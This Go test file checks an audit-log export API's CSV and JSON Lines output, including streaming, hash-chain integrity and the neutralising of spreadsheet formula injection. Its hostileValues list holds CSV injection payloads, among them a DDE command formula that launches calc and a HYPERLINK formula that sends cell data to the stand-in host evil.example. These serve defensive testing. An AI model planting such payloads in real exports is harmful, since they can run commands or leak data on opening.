package auditapi

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/meshguard/meshguard/internal/pgtest"

	"github.com/meshguard/meshguard/audittrail"
)

// hostileValues are field values an attacker controls (user agents, paths,
// user ids, headers), chosen to break CSV quoting or to run as formulas.
var hostileValues = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+1`,
	`-2+3`,
	`@SUM(1,2)`,
	"\tTAB first",
	`'already quoted`,
	`''two quotes`,
	`a "quoted" word`,
	`comma, separated, "and quoted"`,
	"line one\nline two",
	"trailing newline\n",
	"\nleading newline",
	"unicode ✓ naïve 日本語 🚀",
	" leading space",
	`"`,
	`,`,
	`plain`,
	`x=1`,
	`{"json": "looking"}`,
}

// seedHostile stores one row per hostile value, the value in every text
// column, and returns the rows as stored (IDs and chain columns set).
func seedHostile(t *testing.T, store apiStore) []audittrail.Record {
	t.Helper()
	start := time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)
	recs := make([]audittrail.Record, len(hostileValues))
	for i, v := range hostileValues {
		meta, _ := json.Marshal(map[string]string{"note": v})
		recs[i] = audittrail.Record{
			CreatedAt: start.Add(time.Duration(i) * time.Millisecond), Action: "CREATE", Severity: audittrail.SeverityLow,
			EntityType: v, EntityID: v, UserID: v, IPAddress: "203.0.113.9", UserAgent: v, Method: "POST",
			Path: v, Status: 201, RequestID: v, Origin: v, Tenant: v, Metadata: meta,
			OldValues: json.RawMessage(`{"v": -1}`), NewValues: json.RawMessage(`[1, "=2"]`),
		}
	}
	if err := newStoreSink(t, store).Enqueue(t.Context(), recs); err != nil {
		t.Fatal(err)
	}
	var stored []audittrail.Record
	if err := store.Scan(t.Context(), audittrail.Filter{}, func(r *audittrail.Record) error { stored = append(stored, *r); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(stored) != len(recs) {
		t.Fatalf("stored %d rows, want %d", len(stored), len(recs))
	}
	return stored
}

var updateGolden = flag.Bool("update", false, "rewrite golden files under testdata/")

const exportRange = "from=2026-06-01T00:00:00Z&to=2026-06-02T00:00:00Z"

func TestExportCSVRoundTrip(t *testing.T) {
	store := apiOpenSQLite(t)
	stored := seedHostile(t, store)
	_, mux := newTestAPI(t, tokenConfig(), store, newStoreSink(t, apiOpenSQLite(t)))

	rec := get(t, mux, "/v1/audit/export?format=csv&"+exportRange, bearer...)
	if rec.Code != 200 {
		t.Fatalf("export: %d %s", rec.Code, rec.Body)
	}
	for k, v := range map[string]string{
		"Content-Type":        "text/csv; charset=utf-8; header=present",
		"Content-Disposition": `attachment; filename="audit-20260601T000000Z-20260602T000000Z.csv"`,
		"Cache-Control":       "no-store",
	} {
		if got := rec.Header().Get(k); got != v {
			t.Errorf("%s = %q, want %q", k, got, v)
		}
	}
	body := rec.Body.Bytes()

	// RFC 4180: every line ends in CRLF; no bare LF outside quoted fields is
	// checked by the parser below, which must read it with the same count of
	// fields on every line.
	if !bytes.HasSuffix(body, []byte("\r\n")) {
		t.Fatalf("CSV does not end in CRLF: %q", body[max(0, len(body)-20):])
	}
	r := csv.NewReader(bytes.NewReader(body))
	r.FieldsPerRecord = len(ExportColumns)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	if d := cmp.Diff(ExportColumns, rows[0]); d != "" {
		t.Fatalf("header (-want +got):\n%s", d)
	}
	rows = rows[1:]
	if len(rows) != len(stored) {
		t.Fatalf("%d CSV rows, want %d", len(rows), len(stored))
	}
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("row %d %s: cell %q starts with a formula character", i, ExportColumns[j], cell)
			}
		}
		got := map[string]string{}
		for j, col := range ExportColumns {
			got[col] = strings.TrimPrefix(row[j], "'") // undo the neutralisation
		}
		s := stored[i]
		want := map[string]string{
			"id": strconv.FormatInt(s.ID, 10), "created_at": s.CreatedAt.Format(time.RFC3339Nano),
			"action": s.Action, "severity": s.Severity, "entity_type": s.EntityType, "entity_id": s.EntityID,
			"user_id": s.UserID, "ip_address": s.IPAddress, "user_agent": s.UserAgent, "method": s.Method,
			"path": s.Path, "status": strconv.Itoa(s.Status), "request_id": s.RequestID, "origin": s.Origin,
			"tenant": s.Tenant, "metadata": string(s.Metadata), "old_values": string(s.OldValues),
			"new_values": string(s.NewValues), "chain_id": s.ChainID, "seq": strconv.FormatInt(s.Seq, 10), "key_id": s.KeyID,
			"prev_hash": hex.EncodeToString(s.PrevHash), "hash": hex.EncodeToString(s.Hash),
		}
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("row %d (%q) after a CSV round trip (-want +got):\n%s", i, hostileValues[i], d)
		}
		if got["user_id"] != hostileValues[i] {
			t.Errorf("row %d: user_id %q, want the original %q", i, got["user_id"], hostileValues[i])
		}
	}
}

func TestCSVSafe(t *testing.T) {
	cases := map[string]string{
		"":         "",
		"=1+1":     "'=1+1",
		"+1":       "'+1",
		"-1":       "'-1",
		"@x":       "'@x",
		"\tx":      "'\tx",
		"\rx":      "'\rx",
		"\nx":      "'\nx",
		"\x00x":    "'\x00x",
		"'x":       "''x",
		"x=1":      "x=1",
		"日本":       "日本",
		"a,b":      "a,b",
		" =padded": " =padded",
	}
	for in, want := range cases {
		if got := csvSafe(in); got != want {
			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
		}
		if back := strings.TrimPrefix(csvSafe(in), "'"); back != in {
			t.Errorf("stripping one ' from csvSafe(%q) gives %q, not the value", in, back)
		}
	}
}

// TestExportCSVCarriageReturn pins the documented CSV limit: RFC 4180 line
// ends are CRLF, so a CR inside a value does not survive (JSON Lines keeps it).
func TestExportCSVCarriageReturn(t *testing.T) {
	reader := sliceReader{{ID: 1, CreatedAt: time.Unix(0, 0), UserAgent: "a\r\nb", Path: "c\rd"}}
	var buf bytes.Buffer
	if _, err := WriteExport(t.Context(), &buf, reader, audittrail.Filter{}, FormatCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if ua, path := rows[1][8], rows[1][10]; ua != "a\nb" || path != "cd" {
		t.Fatalf("user_agent %q path %q, want %q %q", ua, path, "a\nb", "cd")
	}
	buf.Reset()
	if _, err := WriteExport(t.Context(), &buf, reader, audittrail.Filter{}, FormatJSONL); err != nil {
		t.Fatal(err)
	}
	var back audittrail.Record
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil || back.UserAgent != "a\r\nb" || back.Path != "c\rd" {
		t.Fatalf("JSONL lost the CR: %+v %v", back, err)
	}
}

func TestExportJSONLRoundTrip(t *testing.T) {
	store := apiOpenSQLite(t)
	stored := seedHostile(t, store)
	_, mux := newTestAPI(t, tokenConfig(), store, newStoreSink(t, apiOpenSQLite(t)))

	rec := get(t, mux, "/v1/audit/export?format=jsonl&"+exportRange, bearer...)
	if rec.Code != 200 {
		t.Fatalf("export: %d %s", rec.Code, rec.Body)
	}
	if ct, cd := rec.Header().Get("Content-Type"), rec.Header().Get("Content-Disposition"); ct != "application/jsonl; charset=utf-8" ||
		cd != `attachment; filename="audit-20260601T000000Z-20260602T000000Z.jsonl"` {
		t.Fatalf("headers %q %q", ct, cd)
	}
	body := rec.Body.String()
	if !strings.HasSuffix(body, "\n") {
		t.Fatal("JSON Lines output does not end with a newline")
	}
	lines := strings.Split(strings.TrimSuffix(body, "\n"), "\n")
	if len(lines) != len(stored) {
		t.Fatalf("%d lines, want %d", len(lines), len(stored))
	}
	var got []audittrail.Record
	for i, line := range lines {
		var r audittrail.Record
		dec := json.NewDecoder(strings.NewReader(line))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&r); err != nil {
			t.Fatalf("line %d is not one JSON audittrail.Record: %v\n%s", i, err, line)
		}
		got = append(got, r)
	}
	if d := cmp.Diff(stored, got); d != "" {
		t.Fatalf("JSONL round trip (-stored +exported):\n%s", d)
	}
	// The exported rows still verify: each hash is the MAC of its content
	// and links to the previous one.
	for i := range got {
		if err := testKeys.CheckRow(&got[i]); err != nil {
			t.Fatalf("row %d: exported content does not hash to its stored hash", i)
		}
		if i > 0 && !bytes.Equal(got[i].PrevHash, got[i-1].Hash) {
			t.Fatalf("row %d: chain link broken in the export", i)
		}
	}
}

// sliceReader is an in-memory recordReader for the benchmark and the CR
// test; the API tests use the real stores.
type sliceReader []audittrail.Record

func (s sliceReader) List(context.Context, audittrail.Filter, audittrail.Cursor, int) ([]audittrail.Record, audittrail.Cursor, error) {
	return nil, audittrail.Cursor{}, errors.New("sliceReader: List not supported")
}

func (s sliceReader) Scan(ctx context.Context, _ audittrail.Filter, fn func(*audittrail.Record) error) error {
	for i := range s {
		if err := fn(&s[i]); err != nil {
			return err
		}
	}
	return nil
}

// scanWatch wraps a real store: List fails the test (exports must stream
// through Scan), and Scan checks, as rows flow, that bytes already reached
// the client and that no more than a bounded amount is held back.
type scanWatch struct {
	recordReader
	t       *testing.T
	sent    func() int64 // bytes the client has received so far
	rows    int
	failAt  int // when > 0, Scan fails after this many rows
	maxHeld int64
}

func (s *scanWatch) List(context.Context, audittrail.Filter, audittrail.Cursor, int) ([]audittrail.Record, audittrail.Cursor, error) {
	s.t.Error("export called List; it must stream through Scan")
	return nil, audittrail.Cursor{}, errors.New("List not allowed")
}

func (s *scanWatch) Scan(ctx context.Context, f audittrail.Filter, fn func(*audittrail.Record) error) error {
	var produced int64 // approximate bytes handed to the exporter
	return s.recordReader.Scan(ctx, f, func(r *audittrail.Record) error {
		s.rows++
		if s.failAt > 0 && s.rows > s.failAt {
			return errors.New("database connection lost")
		}
		produced += int64(len(r.Path) + len(r.RequestID) + len(r.Metadata) + 100)
		if s.sent != nil && s.rows%1000 == 0 {
			if held := produced - s.sent(); held > s.maxHeld {
				s.maxHeld = held
			}
		}
		return fn(r)
	})
}

// countingWriter is a ResponseWriter that counts bytes and keeps only the
// line count, so many rows cost no memory in the test either.
type countingWriter struct {
	h     http.Header
	code  int
	n     int64
	lines int
}

func (c *countingWriter) Header() http.Header  { return c.h }
func (c *countingWriter) WriteHeader(code int) { c.code = code }
func (c *countingWriter) Write(p []byte) (int, error) {
	if c.code == 0 {
		c.code = 200
	}
	c.n += int64(len(p))
	c.lines += bytes.Count(p, []byte("\n"))
	return len(p), nil
}

func TestExportStreamsManyRows(t *testing.T) {
	const n = 10000
	store := apiOpenSQLite(t)
	start := time.Date(2026, 7, 1, 0, 0, 0, 0, time.UTC)
	apiSeed(t, store, n, start)
	for _, format := range []string{FormatCSV, FormatJSONL} {
		t.Run(format, func(t *testing.T) {
			cw := &countingWriter{h: http.Header{}}
			watch := &scanWatch{recordReader: store, t: t, sent: func() int64 { return cw.n }}
			_, mux := newTestAPI(t, tokenConfig(), watch, newStoreSink(t, apiOpenSQLite(t)))
			req := httptest.NewRequest(http.MethodGet, "/v1/audit/export?format="+format+"&from=2026-07-01T00:00:00Z&to=2026-08-01T00:00:00Z", nil)
			req.Header.Set("Authorization", "Bearer "+apiTestToken)
			mux.ServeHTTP(cw, req)
			if cw.code != 200 {
				t.Fatalf("status %d", cw.code)
			}
			wantLines := n
			if format == FormatCSV {
				wantLines++ // header
			}
			if watch.rows != n || cw.lines != wantLines {
				t.Fatalf("scanned %d rows, wrote %d lines; want %d and %d", watch.rows, cw.lines, n, wantLines)
			}
			// The exporter holds back at most its buffer (64 KiB) plus a
			// margin for the size estimate, never the range.
			if watch.maxHeld > 2*exportBufSize {
				t.Fatalf("exporter held back up to %d bytes while streaming %d bytes", watch.maxHeld, cw.n)
			}
			if cw.n < 16*exportBufSize {
				t.Fatalf("only %d bytes for %d rows; the bound above proves nothing", cw.n, n)
			}
		})
	}
}

func TestExportFailureMidStreamCutsTheTransfer(t *testing.T) {
	store := apiOpenSQLite(t)
	apiSeed(t, store, 5000, time.Date(2026, 7, 1, 0, 0, 0, 0, time.UTC))
	watch := &scanWatch{recordReader: store, t: t, failAt: 3000}
	_, mux := newTestAPI(t, tokenConfig(), watch, newStoreSink(t, apiOpenSQLite(t)))
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)

	req, _ := http.NewRequestWithContext(t.Context(), http.MethodGet, srv.URL+"/v1/audit/export?format=jsonl&from=2026-07-01T00:00:00Z&to=2026-08-01T00:00:00Z", nil)
	req.Header.Set("Authorization", "Bearer "+apiTestToken)
	resp, err := srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	lines := 0
	sc := bufio.NewScanner(resp.Body)
	for sc.Scan() {
		lines++
	}
	if sc.Err() == nil {
		t.Fatalf("a failed export ended like a complete one after %d lines", lines)
	}
	if lines >= 3000 {
		t.Fatalf("%d lines before the failure at row 3000", lines)
	}

	// A failure before the first row is flushed is still an error status.
	watch.rows, watch.failAt = 0, 1
	rec := get(t, mux, "/v1/audit/export?format=csv&from=2026-07-01T00:00:00Z&to=2026-08-01T00:00:00Z", bearer...)
	if rec.Code != http.StatusServiceUnavailable || rec.Header().Get("Content-Disposition") != "" {
		t.Fatalf("early failure: %d %v %s", rec.Code, rec.Header(), rec.Body)
	}
}

func TestExportFilename(t *testing.T) {
	from := time.Date(2026, 1, 2, 3, 4, 5, 0, time.FixedZone("x", 3600))
	cases := []struct {
		f    audittrail.Filter
		want string
	}{
		{audittrail.Filter{From: from, To: from.Add(time.Hour)}, "audit-20260102T020405Z-20260102T030405Z.csv"},
		{audittrail.Filter{}, "audit-start-now.csv"},
	}
	for _, tc := range cases {
		if got := ExportFilename(tc.f, FormatCSV); got != tc.want {
			t.Errorf("ExportFilename(%v) = %q, want %q", tc.f, got, tc.want)
		}
	}
}

func TestWriteExportRejectsUnknownFormat(t *testing.T) {
	if _, err := WriteExport(t.Context(), io.Discard, sliceReader{}, audittrail.Filter{}, "xml"); err == nil {
		t.Fatal("WriteExport accepted format xml")
	}
}

func benchRecords(n int) sliceReader {
	recs := make(sliceReader, n)
	for i := range recs {
		recs[i] = audittrail.Record{
			ID: int64(i + 1), CreatedAt: time.Date(2026, 1, 1, 0, 0, i, 0, time.UTC), Action: "CREATE",
			Severity: audittrail.SeverityLow, EntityType: "invoice", EntityID: strconv.Itoa(i), UserID: "user-42",
			IPAddress: "10.0.0.1", UserAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", Method: "POST",
			Path: "/api/invoices/" + strconv.Itoa(i), Status: 201, RequestID: fmt.Sprintf("%032x", i),
			Metadata: json.RawMessage(`{"duration_ms":12.5,"rule":"create"}`), ChainID: "host/1", Seq: int64(i + 1),
			PrevHash: bytes.Repeat([]byte{1}, 32), Hash: bytes.Repeat([]byte{2}, 32),
		}
	}
	return recs
}

// BenchmarkWriteExport measures the exporter alone (no store): one op is one
// row.
func BenchmarkWriteExport(b *testing.B) {
	recs := benchRecords(10000)
	for _, format := range []string{FormatCSV, FormatJSONL} {
		b.Run(format, func(b *testing.B) {
			b.ReportAllocs()
			var written int64
			for i := 0; i < b.N; i += len(recs) {
				cw := &countingWriter{h: http.Header{}}
				if _, err := WriteExport(context.Background(), cw, recs[:min(len(recs), b.N-i)], audittrail.Filter{}, format); err != nil {
					b.Fatal(err)
				}
				written += cw.n
			}
			b.SetBytes(written / int64(b.N))
		})
	}
}

// BenchmarkExportStore measures a whole export from a real store (SQLite
// and PostgreSQL) to a discarding writer: one op exports 20000 rows.
func BenchmarkExportStore(b *testing.B) {
	const n = 20000
	run := func(b *testing.B, store apiStore) {
		apiSeed(b, store, n, time.Date(2026, 8, 1, 0, 0, 0, 0, time.UTC))
		for _, format := range []string{FormatCSV, FormatJSONL} {
			b.Run(format, func(b *testing.B) {
				b.ReportAllocs()
				start := time.Now()
				for b.Loop() {
					rows, err := WriteExport(context.Background(), io.Discard, store, audittrail.Filter{}, format)
					if err != nil || rows != n {
						b.Fatalf("%d rows, %v", rows, err)
					}
				}
				b.ReportMetric(float64(n)*float64(b.N)/time.Since(start).Seconds(), "rows/s")
			})
		}
	}
	b.Run("sqlite", func(b *testing.B) { run(b, apiOpenSQLite(b)) })
	b.Run("postgres", func(b *testing.B) { run(b, apiOpenPG(b, pgtest.Start(b))) })
}

// TestExportGolden pins the exact bytes of both formats for a few rows
// (go test -run TestExportGolden -update rewrites testdata/api/).
func TestExportGolden(t *testing.T) {
	at := time.Date(2026, 9, 1, 12, 30, 0, 123456000, time.UTC)
	recs := sliceReader{
		{ID: 1, CreatedAt: at, Action: "LOGIN_FAILURE", Severity: audittrail.SeverityMedium, EntityType: "session",
			UserID: "alice", IPAddress: "192.0.2.10", UserAgent: `Mozilla/5.0 ("compatible")`, Method: "POST",
			Path: "/api/auth/login", Status: 401, RequestID: "req-1", Origin: "https://app.example.com",
			Tenant: "acme", Metadata: json.RawMessage(`{"rule":"login_failure"}`), ChainID: "host/1", Seq: 1, KeyID: "meshguard-audit+0a1b2c3d",
			PrevHash: make([]byte, 32), Hash: bytes.Repeat([]byte{0xab}, 32)},
		{ID: 2, CreatedAt: at.Add(time.Second), Action: "CREATE", Severity: audittrail.SeverityLow, EntityType: "invoice",
			EntityID: "=1+2", UserID: "@bob", UserAgent: "-", Method: "POST", Path: "/api/invoices?note=a,b",
			Status: 201, RequestID: "req-2\nsplit", Metadata: json.RawMessage(`{"html":"<b>&</b>"}`),
			NewValues: json.RawMessage(`{"total":-5}`), ChainID: "host/1", Seq: 2,
			PrevHash: bytes.Repeat([]byte{0xab}, 32), Hash: bytes.Repeat([]byte{0xcd}, 32)},
	}
	for _, format := range []string{FormatCSV, FormatJSONL} {
		t.Run(format, func(t *testing.T) {
			var buf bytes.Buffer
			if _, err := WriteExport(t.Context(), &buf, recs, audittrail.Filter{}, format); err != nil {
				t.Fatal(err)
			}
			path := filepath.Join("testdata", "api", "export."+format)
			if *updateGolden {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			if d := cmp.Diff(string(want), buf.String()); d != "" {
				t.Fatalf("%s (-golden +got):\n%s", path, d)
			}
		})
	}
}

func TestExportConcurrencyBounded(t *testing.T) {
	store := apiOpenSQLite(t)
	sink := newStoreSink(t, apiOpenSQLite(t))
	api, mux := newTestAPI(t, tokenConfig(), store, sink)
	for range apiMaxExports { // exports in progress
		api.exports <- struct{}{}
	}
	target := "/v1/audit/export?format=csv&" + exportRange
	rec := get(t, mux, target, bearer...)
	if rec.Code != http.StatusTooManyRequests || rec.Header().Get("Retry-After") == "" || len(sink.recorded()) != 0 {
		t.Fatalf("export over the bound: %d %v %s", rec.Code, rec.Header(), rec.Body)
	}
	<-api.exports
	if rec := get(t, mux, target, bearer...); rec.Code != 200 {
		t.Fatalf("export with a free slot: %d %s", rec.Code, rec.Body)
	}
	if len(api.exports) != apiMaxExports-1 {
		t.Fatalf("the finished export did not release its slot: %d in use", len(api.exports))
	}
}
